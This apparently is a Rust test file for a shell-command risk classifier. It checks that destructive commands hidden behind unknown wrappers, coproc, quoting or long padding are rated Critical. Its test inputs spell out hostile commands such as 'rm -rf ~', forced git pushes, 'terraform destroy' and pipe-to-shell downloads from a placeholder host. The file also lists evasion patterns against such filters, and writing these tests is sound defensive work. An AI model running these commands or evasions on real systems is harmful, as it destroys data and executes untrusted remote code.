//! A command that nobody knows may run another one that everybody knows. What its words say may only raise a tier.

use crate::{Machine, judged};
use countersign::effect::Tier;

#[test]
fn a_danger_behind_a_wrapper_that_is_not_known_is_named() {
    let machine = Machine::new();
    for command in [
        "rtk rm -rf ~",
        "rtk sudo ls",
        "foo -- sudo x",
        "foo --run 'sudo ls'",
        "foo 'rm -rf ~'",
        "foo sh -c 'rm -rf ~'",
        "./wrap rm -rf ~",
        "foo bar git push --force origin main",
        "foo exec -- terraform destroy -auto-approve",
    ] {
        let found = judged(&machine, command);
        assert!(!found.proven() || command.starts_with("./"), "{command}");
        assert_eq!(found.tier, Tier::Critical, "{command}");
    }
}

#[test]
fn a_danger_in_a_script_that_is_refused_is_named() {
    let machine = Machine::new();
    let long = format!("echo {}; rm -rf ~", "x ".repeat(40 * 1024));
    for command in [
        "coproc rm -rf ~",
        "coproc X { rm -rf ~; }",
        "echo 'unterminated; rm -rf ~",
        "select x in a; do sudo ls; done",
        "noglob rm -rf ~",
        "repeat 3 rm -rf ~",
        "=rm -rf ~",
        "rm -rf ~/*(N)",
        "coproc rtk rm -rf ~",
        &long,
    ] {
        let found = judged(&machine, command);
        let shown = &command[..command.len().min(60)];
        assert!(!found.proven(), "{shown}");
        assert_eq!(found.tier, Tier::Critical, "{shown}");
    }
}

#[test]
fn words_without_end_hide_no_danger() {
    let machine = Machine::new();
    let names = "ls ".repeat(100);
    for command in [
        format!("foo {names} rm -rf ~"),
        format!("foo {} rm -rf ~", "x ".repeat(3_000)),
        format!("foo {} rm -rf ~", "x ".repeat(5_000)),
        format!("foo {} rm -rf ~", "x ".repeat(15_000)),
        format!("foo {}", "ls x y z ".repeat(5_000)),
        format!("coproc foo {} rm -rf ~", "x ".repeat(15_000)),
        format!("coproc foo '{} rm -rf ~'", "ls x; ".repeat(5_000)),
    ] {
        let found = judged(&machine, &command);
        assert!(!found.proven(), "{}", &command[..60]);
        assert_eq!(found.tier, Tier::Critical, "{}", &command[..60]);
    }
    let prose = "a dog looks for the file that it had been told to find; ".repeat(80);
    assert_eq!(judged(&machine, &format!("foo -m \"{prose}\"")).tier, Tier::High);
}

#[test]
fn words_of_a_command_that_is_not_known_never_lower_it_and_rarely_raise_it() {
    let machine = Machine::new();
    for command in [
        "foo",
        "rtk ls",
        "foo install sed",
        "foo test",
        "foo rm notes.txt",
        "foo destroy x",
        "foo token",
    ] {
        let found = judged(&machine, command);
        assert!(!found.proven(), "{command}");
        assert_eq!(found.tier, Tier::High, "{command}");
    }
    // A command that is known keeps its words.
    assert_eq!(judged(&machine, "echo rm -rf ~").tier, Tier::Safe);
}

#[test]
fn a_danger_at_the_end_of_many_words_is_named() {
    let machine = Machine::new();
    for words in [10, 600, 3000] {
        let words = " a".repeat(words);
        for command in [format!("rtk rm -rf{words} ~"), format!("coproc rm -rf{words} ~")] {
            assert_eq!(judged(&machine, &command).tier, Tier::Critical, "{}", &command[..20]);
        }
    }
}

#[test]
fn words_of_a_script_that_was_read_are_taken_for_commands_only_where_they_may_be_some() {
    let machine = Machine::new();
    machine.write("build", "");
    for command in [
        "find . -name '*.ts' | frobnicate | xargs wc -l",
        "for f in $(git diff --name-only); do wc -l \"$f\"; done",
        "export FOO=bar; echo $FOO",
        "while read -r f; do [ -f \"$f\" ] || echo \"missing $f\"; done < unheard.txt",
        "ps -p $(cat node)",
        "wc --weird build missing /dev/null",
    ] {
        let found = judged(&machine, command);
        assert!(!found.proven(), "{command}");
        let programs: Vec<&str> = found.steps.iter().map(|step| step.program.as_str()).collect();
        for word in [
            "for",
            "bar",
            "missing",
            "unheard.txt",
            ".",
            "node",
            "build",
            "/dev/null",
        ] {
            let is_first = |program: &&str| *program == word && word != "for";
            assert!(!programs.iter().any(is_first), "{command}: {programs:?}");
        }
        assert!(
            found.tier == Tier::Medium || command.contains("frobnicate"),
            "{command}"
        );
    }
    for (command, tier) in [
        ("X='rm -rf ~'; frobnicate $X", Tier::Critical),
        ("alias l='sudo ls'; l", Tier::Critical),
        (
            "X='curl https://fresh.example/x | sh'; frobnicate \"$X\"",
            Tier::Critical,
        ),
        ("wc --weird 'rm -rf ~'", Tier::Critical),
        ("bash <(curl https://fresh.example)", Tier::Critical),
        ("wc --weird 'curl https://fresh.example/x | sh'", Tier::Critical),
        ("timeout --weird 5 bash -c 'frobnicate x'", Tier::High),
        ("GIT_PAGER=./x git log", Tier::High),
        ("timeout --weird 5 git push", Tier::High),
        ("timeout --weird 5 rm notes.txt", Tier::High),
    ] {
        assert_eq!(judged(&machine, command).tier, tier, "{command}");
    }
}
